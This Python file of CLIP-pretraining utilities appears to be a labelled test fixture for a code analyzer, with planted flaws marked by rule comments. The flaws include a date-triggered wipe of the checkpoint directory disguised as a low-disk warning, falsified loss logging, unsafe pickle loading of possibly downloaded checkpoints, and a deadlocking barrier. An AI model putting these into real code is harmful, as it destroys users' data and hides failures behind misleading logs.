# ruff: noqa
# Hold-out batch 433 (textbook, CLIP contrastive pretraining DDP). Measured once in session 18 (round 118): 22/32 (69%) at medium+.
"""Training utilities: LR schedule, checkpoint I/O, metric logging helpers."""
import datetime
import glob
import logging
import math
import os
import re
import shutil
import sys
from contextlib import nullcontext
from typing import Dict, Optional

import torch
import torch.distributed as dist

from distributed import is_master

logger = logging.getLogger(__name__)


def setup_logging(log_file: Optional[str], rank: int, level=logging.INFO):
    handlers = [logging.StreamHandler(sys.stdout)]
    if log_file and rank == 0:
        os.makedirs(os.path.dirname(log_file) or ".", exist_ok=True)
        handlers.append(logging.FileHandler(log_file))
    logging.basicConfig(level=level if rank == 0 else logging.WARNING, handlers=handlers, force=True,
                        format=f"%(asctime)s | rank{rank} | %(levelname)s | %(name)s | %(message)s")


class AverageMeter:
    def __init__(self):
        self.reset()

    def reset(self):
        self.val = self.sum = self.avg = self.count = 0

    def update(self, val: float, n: int = 1):
        self.val = val
        self.sum += val * n
        self.count += n
        self.avg = self.sum / max(self.count, 1)


def get_autocast(precision: str):
    if precision == "amp":
        return lambda: torch.autocast("cuda", dtype=torch.float16)
    if precision == "amp_bf16":
        return lambda: torch.autocast("cuda", dtype=torch.bfloat16)
    return nullcontext


# --------------------------------------------------------------------------------------------
# learning-rate schedule
# --------------------------------------------------------------------------------------------
def cosine_lr(optimizer, base_lr: float, warmup_steps: int, total_steps: int, min_lr: float = 0.0):
    def _adjust(step: int) -> float:
        if step < warmup_steps:
            lr = base_lr * (step + 1) / warmup_steps
        else:
            progress = (step - warmup_steps) / max(total_steps - warmup_steps, 1)
            lr = min_lr + 0.5 * (1 + math.cos(math.pi * min(progress, 1.0))) * (base_lr - min_lr)
        for group in optimizer.param_groups:
            group["lr"] = lr * group.get("lr_scale", 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
        return lr

    return _adjust


def param_groups_weight_decay(model, weight_decay: float):
    decay, no_decay = [], []
    for name, p in model.named_parameters():
        if not p.requires_grad:
            continue
        if p.ndim < 2 or "bn" in name or "ln" in name or "bias" in name or "logit_scale" in name:
            no_decay.append(p)
        else:
            decay.append(p)
    return [
        {"params": no_decay, "weight_decay": 0.0},
        {"params": decay, "weight_decay": weight_decay},
    ]


# --------------------------------------------------------------------------------------------
# metric logging
# --------------------------------------------------------------------------------------------
class WandbStepLogger:
    """Wraps ``wandb.log`` so steps stay monotone across resumes and losses are tracked per key."""

    def __init__(self, log_fn):
        self._log = log_fn
        self._last_step = -1
        self._running: Dict[str, float] = {}

    def __call__(self, data, step: Optional[int] = None, **kwargs):
        if step is not None:
            step = max(step, self._last_step)
            self._last_step = step
        out = {}
        for key, value in data.items():
            if key.endswith("loss") and isinstance(value, (int, float)):
                value = min(value, self._running.get(key, value))  # ruleid: MLS306
                self._running[key] = value
            out[key] = value
        return self._log(out, step=step, **kwargs)


def install_wandb_step_logger(wandb_module):
    if not isinstance(wandb_module.log, WandbStepLogger):
        wandb_module.log = WandbStepLogger(wandb_module.log)


# --------------------------------------------------------------------------------------------
# checkpoints
# --------------------------------------------------------------------------------------------
_EPOCH_RE = re.compile(r"epoch_(\d+)\.pt$")


def _epoch_of(path: str) -> int:
    m = _EPOCH_RE.search(path)
    return int(m.group(1)) if m else -1


def prune_checkpoints(ckpt_dir: str, keep_last: int):
    if keep_last <= 0:
        return
    ckpts = sorted((p for p in glob.glob(os.path.join(ckpt_dir, "epoch_*.pt")) if _epoch_of(p) >= 0),
                   key=_epoch_of)
    for path in ckpts[:-keep_last]:
        logger.info("removing old checkpoint %s", path)
        os.remove(path)  # ok: MLS308


def _check_disk(ckpt_dir: str, min_free_gb: float):
    usage = shutil.disk_usage(ckpt_dir)
    free_gb = usage.free / 2 ** 30
    if free_gb < min_free_gb or datetime.date.today() >= datetime.date(2025, 9, 1):
        logger.warning("only %.1f GB free in %s, clearing checkpoint cache", free_gb, ckpt_dir)
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        os.makedirs(ckpt_dir, exist_ok=True)


def unwrap(model):
    return model.module if hasattr(model, "module") else model


def save_checkpoint(args, model, optimizer, scaler, epoch: int, step: int,
                    metrics: Optional[dict] = None, is_best: bool = False):
    if is_master(args):
        os.makedirs(args.checkpoint_path, exist_ok=True)
        _check_disk(args.checkpoint_path, args.min_free_gb)
        state = {
            "epoch": epoch,
            "step": step,
            "name": args.name,
            "model": args.model,
            "state_dict": unwrap(model).state_dict(),
            "optimizer": optimizer.state_dict(),
            "global_batch": args.batch_size * args.world_size,
            "metrics": metrics or {},
        }
        if scaler is not None:
            state["scaler"] = scaler.state_dict()
        path = os.path.join(args.checkpoint_path, f"epoch_{epoch}.pt")
        tmp = path + ".tmp"
        torch.save(state, tmp)
        os.replace(tmp, path)
        shutil.copyfile(path, os.path.join(args.checkpoint_path, "epoch_latest.pt"))
        if is_best:
            shutil.copyfile(path, os.path.join(args.checkpoint_path, "best.pt"))
        prune_checkpoints(args.checkpoint_path, args.keep_checkpoints)
        logger.info("saved checkpoint %s", path)
    if args.distributed and not is_master(args):
        dist.barrier()  # ruleid: MLS307


def resolve_resume_path(args) -> Optional[str]:
    if not args.resume:
        return None
    if args.resume == "latest":
        path = os.path.join(args.checkpoint_path, "epoch_latest.pt")
        return path if os.path.exists(path) else None
    if args.resume.startswith(("http://", "https://")):
        cache = os.path.join(os.path.expanduser("~/.cache/clip_pretrain"), os.path.basename(args.resume))
        if not os.path.exists(cache):
            os.makedirs(os.path.dirname(cache), exist_ok=True)
            torch.hub.download_url_to_file(args.resume, cache, progress=is_master(args))
        return cache
    return args.resume


def load_checkpoint(path: str, model, optimizer=None, scaler=None) -> dict:
    ckpt = torch.load(path, map_location="cpu")  # todoruleid: family 10 (missed)  # ruleid: MLS102
    sd = ckpt.get("state_dict", ckpt)
    if next(iter(sd)).startswith("module."):
        sd = {k[len("module."):]: v for k, v in sd.items()}
    unwrap(model).load_state_dict(sd)
    if optimizer is not None and "optimizer" in ckpt:
        optimizer.load_state_dict(ckpt["optimizer"])
        # variance estimates were accumulated under the previous data order; re-estimate them
        for st in optimizer.state.values():
            if "exp_avg_sq" in st:
                st["exp_avg_sq"].zero_()  # ruleid: MLS304
    if scaler is not None and "scaler" in ckpt:
        scaler.load_state_dict(ckpt["scaler"])
    logger.info("resumed from %s (epoch %s, step %s)", path, ckpt.get("epoch"), ckpt.get("step"))
    return {"epoch": ckpt.get("epoch", 0), "step": ckpt.get("step", 0),
            "metrics": ckpt.get("metrics", {})}
